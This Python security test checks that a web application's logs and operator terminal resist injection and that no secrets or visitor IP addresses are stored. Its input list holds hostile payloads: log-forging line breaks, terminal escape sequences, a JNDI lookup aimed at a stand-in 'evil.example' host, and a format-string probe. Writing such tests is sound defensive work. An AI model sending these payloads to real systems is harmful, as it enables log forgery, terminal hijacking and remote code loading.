"""S20: nothing that a person sends can write a line of the log or steer the terminal that shows it, and no secret is in log or journal."""
import json
import pathlib
import re
import sys
import tempfile

import council
from probe import PASSWORD, House, Visitor, check, run

MARK = "2026-01-01T00:00:00.000+00:00 error store: forged line"
CONTROLS = r"[\x00-\x09\x0b-\x1f\x7f-\x9f]"
INJECTIONS = [f"x\n{MARK}", f"x\r\n{MARK}", f"x\r{MARK}", "x\x1b[2J\x1b]0;owned\x07", "x\x00y", "x\x85y", "x\u2028" + MARK, "x\x9b2Jy", "x\x7fy", "%0a" + MARK, "\\n" + MARK, "${jndi:ldap://evil.example/x}", "%n%s%x"]


# What stands in the names of plugin folders reaches the log for certain: without them, a log that says nothing would pass.
FOLDERS = [text for text in INJECTIONS if "/" not in text and "\0" not in text]
SHOWN = {"a line feed": ("\\x0a2026", "\\n2026"), "a carriage return": ("\\x0d2026", "\\r2026"), "an escape": ("\\x1b[2J", "\\u001b[2J"), "a bell": ("\\x07", "\\u0007"),
         "a C1 control": ("\\x9b2J", "\\u009b2J"), "a next line": ("\\x85y", "\\u0085y"), "a delete": ("\\x7f", "\\u007f")}
ADDRESSES = ["203.0.113.77", "2001:db8:aa:bb:cc:dd:ee:ff"]


def speak(house, who, ids):
    """Every way by which a text of a person's reaches the house."""
    for text in INJECTIONS:
        quoted = "".join(f"%{byte:02x}" for byte in text.encode())
        visitor = Visitor(house)
        visitor.get(f"/travaux?keyword={quoted}")
        visitor.get(f"/{quoted}")
        visitor.get(f"/?{quoted}={quoted}")
        for name in ("User-Agent", "Referer", "Accept-Language", "X-Forwarded-For", "traceparent", "Idempotency-Key", "Origin", "Cookie"):
            visitor.get("/", {name: re.sub(r"[\r\n\0]", " ", text)})
            house.raw(b"GET / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n%s: %s\r\nConnection: close\r\n\r\n" % (house.port, name.encode(), text.encode()), 2)
        visitor.post("/connexion", {"email": text, "password": text})
        visitor.call("accounts.sign_in", {"email": text, "password": text})
        visitor.call("accounts.sign_in", {"email": "admin@example.org", "password": "Sesame-" + text})
        who["inhabitant"].call("comments.submit", {"article": ids["article"], "text": text}, key=re.sub(r"[\x00-\x1f\x7f-\x9f\u2028]", " ", text).encode().decode("latin1"))
        who["technical_team"].call("publication.draft", {"title": text, "body": text, "keywords": [text]})
        who["admin"].call("accounts.add", {"email": "victim@example.org", "name": text, "password": PASSWORD})
        house.raw(text.encode() + b"\r\n\r\n", 2)
    return f"{len(INJECTIONS)} texts by 20 ways"


def lines(text):
    for line in text.split("\n"):
        if line:
            yield line


def shown(house, form):
    """Each kind of character is there as an escape, so that it was written and is harmless."""
    text = house.log.read_text()
    for name, (plain, in_json) in SHOWN.items():
        check((in_json if form == "json" else plain) in text, f"{name} of a folder's name is not in the log as an escape: the trial is blind")
    return ", ".join(SHOWN)


def addresses(house, who, ids):
    """Where a visitor comes from is nowhere: not in the log, not in the journal, in no table."""
    for address in ADDRESSES:
        from_there = {"X-Forwarded-For": address}
        visitor = Visitor(house)
        visitor.get("/", from_there)
        visitor.get("/nowhere", from_there)
        visitor.call("accounts.sign_in", {"email": "nobody@example.org", "password": "wrong wrong wrong"}, headers=from_there)
        who["inhabitant"].call("comments.submit", {"article": ids["article"], "text": f"Un mot de plus, le {len(address)}."}, headers=from_there)
        house.raw(b"GET / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nX-Forwarded-For: %s\r\nContent-Length: x\r\n\r\n" % (house.port, address.encode()), 2)
    kept = repr(house.dump()) + house.log.read_text()
    for part in (*ADDRESSES, "203.0.113", "2001:db8", "127.0.0.1"):
        check(part not in kept, f"{part} was kept")
    return f"{len(ADDRESSES)} addresses by 5 ways"


def whole(house, form):
    text = house.log.read_bytes().decode("utf-8")
    steering = re.findall(".{0,40}" + CONTROLS + ".{0,20}", text)
    check(not steering, f"control characters in the log: {steering[:2]!r}")
    count = 0
    for line in lines(text):
        if form == "json":
            check(set(json.loads(line)) >= {"level", "text"}, f"a line that is no record: {line!r}")
        else:
            check(re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}[+-]\d\d:\d\d (debug|info|warning|error) .+?: ", line), f"a line that the house did not begin: {line!r}")
            check("forged line" not in line or not line.startswith("2026-01-01"), f"a forged line: {line!r}")
        count += 1
    return f"{count} lines"


def secrets(house, who):
    """Tokens, passwords, session ids and e-mail addresses: not in the log, not in the journal; in the store a session is a hash."""
    known = [PASSWORD, "Sesame-", "example.org"]
    for person in who.values():
        known += list(person.cookies.values()) + [person.token()]
    invited = who["admin"].done("accounts.invite", {"email": "invitee@example.net", "name": "Une invitée", "roles": ["member"]})
    who["admin"].get(invited["path"])
    known += [invited["token"], "invitee@example.net", "Une invitée"]
    log = house.log.read_text(errors="replace")
    journal = repr(house.rows("SELECT * FROM hmc_event"))
    letters = repr([house.rows(f"SELECT * FROM {table}") for table in ("hmc_delivery", "hmc_job", "hmc_dead_letter", "hmc_idempotency") if house.rows("SELECT 1 FROM sqlite_master WHERE name = ?", table)])
    for secret in known:
        for name, text in (("log", log), ("journal", journal), ("queues", letters)):
            check(secret not in text, f"{secret!r} is in the {name}")
    tables = repr({name: rows for name, rows in house.dump().items() if name != "accounts_account"})
    for person in who.values():
        if "hemicycle" in person.cookies:
            check(person.cookies["hemicycle"] not in tables, "a session's id is in the store as it is in the cookie")
    check(PASSWORD not in repr(house.dump()), "a password is in the store")
    check(len(house.rows("SELECT * FROM hmc_event")) > 10, "the journal is empty: the trial is blind")
    return f"{len(known)} secrets sought in {len(log) // 1024} KiB of log and {len(journal) // 1024} KiB of journal"


def journal(house):
    """What an operator reads on a terminal is neutral too."""
    for form in ([], ["--json"]):
        code, out, err = house.cli(*form, "journal", "tail", "-n", "500")
        check(code == 0 and not re.search(CONTROLS, out + err), f"journal tail {form} shows control characters")


def try_all(house, form):
    with house:
        who, ids = council.build(house)
        trials = [(f"{form}: texts of persons reach the house", lambda: speak(house, who, ids)), (f"{form}: each line of the log is one that the house wrote", lambda: whole(house, form)),
                  (f"{form}: what would break a line or steer a terminal is escaped", lambda: shown(house, form)),
                  (f"{form}: no address of a visitor is kept", lambda: addresses(house, who, ids)),
                  (f"{form}: no secret in log or journal", lambda: secrets(house, who)), (f"{form}: the journal is fit for a terminal", lambda: journal(house))]
        run(trials, last=form == "json")


def main():
    program = pathlib.Path(sys.argv[1])
    for form in ("text", "json"):
        with tempfile.TemporaryDirectory() as folder:
            for name in FOLDERS:
                (pathlib.Path(folder) / name).mkdir()
            plugins = f"{program.parents[1] / 'plugins'},{folder}"
            house = House(program, **{"log.format": form, "web.trusted_proxies": "127.0.0.1", "plugins.path": plugins})
            try_all(house, form)


if __name__ == "__main__":
    main()
